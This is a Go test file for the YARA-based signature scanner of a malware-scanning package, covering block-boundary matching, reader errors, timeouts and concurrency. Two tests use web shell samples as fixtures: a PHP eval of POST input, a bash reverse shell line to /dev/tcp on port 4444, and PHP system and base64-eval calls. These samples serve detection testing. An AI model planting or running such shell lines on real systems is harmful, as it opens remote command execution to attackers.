//go:build cgo

package yara

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"reflect"
	"runtime"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/seed-181f3109/assay/signatures"
)

func openScanner(t testing.TB, set signatures.RuleSet) signatures.Scanner {
	t.Helper()
	sc, err := set.NewScanner()
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sc.Close() })
	return sc
}

// TestBlocks compares a scan of a reader with a scan of the same bytes: matches
// at the start, across every border of two blocks, in an overlap, at the end.
func TestBlocks(t *testing.T) {
	dir := writePack(t, map[string]string{"a.yar": `
import "hash"
rule Needle { strings: $a = "needle-in-hay" condition: #a > 0 }
rule Count { strings: $a = "needle-in-hay" condition: #a == 6 }
rule Head { condition: uint32be(0) == 0x6e656564 }
rule Tail { condition: uint8(filesize - 1) == 0x79 }
rule Long { strings: $a = /<[a-z]{4000}>/ condition: $a }
rule Size { condition: filesize == 50331648 }
rule Far { strings: $a = "needle-in-hay" condition: $a at 33554425 }
`})
	set := load(t, nil, dir)
	const size = 48 << 20
	data := make([]byte, size)
	needle := []byte("needle-in-hay")
	borders := []int{0, blockSize - blockOverlap/2, blockSize - 5, 2*blockSize - blockOverlap - 3, 2*blockSize - 7, size - len(needle)}
	for _, at := range borders {
		copy(data[at:], needle)
	}
	copy(data[3*blockSize-2*blockOverlap-2000:], "<"+strings.Repeat("x", 4000)+">")
	sc := openScanner(t, set)
	ctx := context.Background()
	want, err := sc.Scan(ctx, &signatures.Target{Path: "/x", Bytes: data})
	if err != nil {
		t.Fatal(err)
	}
	got, err := sc.Scan(ctx, &signatures.Target{Path: "/x", Reader: bytes.NewReader(data), Size: size})
	if err != nil {
		t.Fatal(err)
	}
	if len(want) != 7 {
		t.Errorf("scan of the bytes: %d matches, want 7", len(want))
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("in blocks:\n got %+v\nwant %+v", got, want)
	}
	for _, m := range got {
		if m.Rule.Name != "Count" {
			continue
		}
		for i, s := range m.Strings {
			if s.Offset != int64(borders[i]) {
				t.Errorf("place %d: offset %d, want %d", i, s.Offset, borders[i])
			}
		}
	}
}

// failingReader fails behind an offset.
type failingReader struct {
	data []byte
	at   int64
}

var errDisk = errors.New("disk is gone")

func (r *failingReader) ReadAt(p []byte, off int64) (int, error) {
	n := copy(p, r.data[off:])
	if off+int64(n) > r.at {
		return max(0, int(r.at-off)), errDisk
	}
	if n < len(p) {
		return n, io.EOF
	}
	return n, nil
}

func TestReaderErrors(t *testing.T) {
	set := load(t, nil, writePack(t, map[string]string{"a.yar": fmt.Sprintf(simple, "A", "needle")}))
	sc := openScanner(t, set)
	data := make([]byte, 40<<20)
	_, err := sc.Scan(context.Background(), &signatures.Target{Path: "/x", Reader: &failingReader{data, 20 << 20}, Size: int64(len(data))})
	if !errors.Is(err, errDisk) {
		t.Errorf("failing reader: %v", err)
	}
	_, err = sc.Scan(context.Background(), &signatures.Target{Path: "/x", Reader: bytes.NewReader(data), Size: int64(len(data)) + 1})
	if !errors.Is(err, io.ErrUnexpectedEOF) {
		t.Errorf("short reader: %v", err)
	}
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	if _, err := sc.Scan(ctx, &signatures.Target{Path: "/x", Bytes: data}); !errors.Is(err, context.Canceled) {
		t.Errorf("cancelled: %v", err)
	}
	if m, err := sc.Scan(context.Background(), &signatures.Target{Path: "/x", Bytes: []byte("a needle")}); err != nil || len(m) != 1 {
		t.Errorf("after the errors: %v, %v", m, err)
	}
	if m, err := sc.Scan(context.Background(), &signatures.Target{Path: "/x", Bytes: []byte{}}); err != nil || len(m) != 0 {
		t.Errorf("empty: %v, %v", m, err)
	}
}

func TestTimeLimitKeepsOtherPacks(t *testing.T) {
	slow := writePack(t, map[string]string{"slow.yar": `rule Slow { condition: for all i in (0..2000000000) : (uint8(i % 1000) < 256) }`})
	quick := writePack(t, map[string]string{"quick.yar": fmt.Sprintf(simple, "Quick", "needle")})
	set := load(t, &Options{MaxFileTime: time.Second}, quick, slow)
	start := time.Now()
	m, err := openScanner(t, set).Scan(context.Background(), &signatures.Target{Path: "/x", Bytes: []byte(strings.Repeat("a needle ", 200))})
	if !errors.Is(err, signatures.ErrTimeout) || len(m) != 1 || m[0].Rule.Name != "Quick" {
		t.Errorf("got %v, %v", m, err)
	}
	if d := time.Since(start); d > 20*time.Second {
		t.Errorf("limit of 1 s took %v", d)
	}
}

func TestManyMatchesAreBounded(t *testing.T) {
	set := load(t, nil, writePack(t, map[string]string{"a.yar": `rule Many { strings: $a = "ab" $b = "zz" condition: #a > 10 and $b }`}))
	data := append(bytes.Repeat([]byte("ab"), 3<<20), "zz"...)
	m, err := openScanner(t, set).Scan(context.Background(), &signatures.Target{Path: "/x", Bytes: data})
	if err != nil || len(m) != 1 {
		t.Fatalf("got %v, %v", m, err)
	}
	s := m[0].Strings
	if len(s) != signatures.MaxStrings || s[len(s)-1].Name != "$b" {
		t.Errorf("%d strings, the last is %s", len(s), s[len(s)-1].Name)
	}
}

func TestGroupsByKind(t *testing.T) {
	set := load(t, nil, Builtin)
	shell := []byte("<?php eval($_POST['k']); // bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
	count := func(kind string) (php, anyKind int) {
		for _, name := range scanNames(t, set, &signatures.Target{Path: "/x", Kind: kind, Bytes: shell}) {
			switch {
			case strings.HasPrefix(name, "php.yar:"):
				php++
			case strings.HasPrefix(name, "any.yar:"):
				anyKind++
			}
		}
		return php, anyKind
	}
	for kind, want := range map[string][2]bool{"php": {true, true}, "": {true, true}, "image,php": {true, true}, "elf": {false, true}, "php-sinks": {false, false}} {
		php, anyKind := count(kind)
		if (php > 0) != want[0] || (anyKind > 0) != want[1] {
			t.Errorf("kind %q: %d php, %d any, want %v", kind, php, anyKind, want)
		}
	}
}

// TestConcurrentAndEqual runs workers over one set; each must see the same.
func TestConcurrentAndEqual(t *testing.T) {
	set := load(t, nil, Builtin)
	target := &signatures.Target{Path: "/srv/a.php", Kind: "php", Bytes: []byte("<?php system($_GET['c']); eval(gzinflate(base64_decode('x'))); $f='system'; $f($_POST['a']);")}
	want, err := openScanner(t, set).Scan(context.Background(), target)
	if err != nil || len(want) < 2 {
		t.Fatalf("got %v, %v", want, err)
	}
	var wg sync.WaitGroup
	for range 4 {
		wg.Go(func() {
			sc, err := set.NewScanner()
			if err != nil {
				t.Error(err)
				return
			}
			defer sc.Close()
			for range 50 {
				if got, err := sc.Scan(context.Background(), target); err != nil || !reflect.DeepEqual(got, want) {
					t.Errorf("got %v, %v", got, err)
					return
				}
			}
		})
	}
	wg.Wait()
}

// TestMemoryDoesNotGrow scans many small files and looks at the process.
func TestMemoryDoesNotGrow(t *testing.T) {
	if _, err := os.Stat("/proc/self/statm"); err != nil {
		t.Skip("needs /proc/self/statm")
	}
	set := load(t, nil, writePack(t, map[string]string{"a.yar": `rule A { strings: $a = "needle" $b = /x[0-9]{3}/ condition: any of them }`}))
	sc := openScanner(t, set)
	target := &signatures.Target{Path: "/x", Bytes: bytes.Repeat([]byte("needle x123 "), 40)}
	run := func(n int) {
		for range n {
			if m, err := sc.Scan(context.Background(), target); err != nil || len(m) != 1 {
				t.Fatalf("got %v, %v", m, err)
			}
		}
	}
	run(20_000)
	runtime.GC()
	before := residentPages(t)
	run(100_000)
	runtime.GC()
	if grown := residentPages(t) - before; grown > 16<<20/4096 {
		t.Errorf("100,000 scans made the process %d KiB larger", grown*4)
	}
}

func residentPages(t *testing.T) int {
	t.Helper()
	data, err := os.ReadFile("/proc/self/statm")
	if err != nil {
		t.Fatal(err)
	}
	n, err := strconv.Atoi(strings.Fields(string(data))[1])
	if err != nil {
		t.Fatal(err)
	}
	return n
}
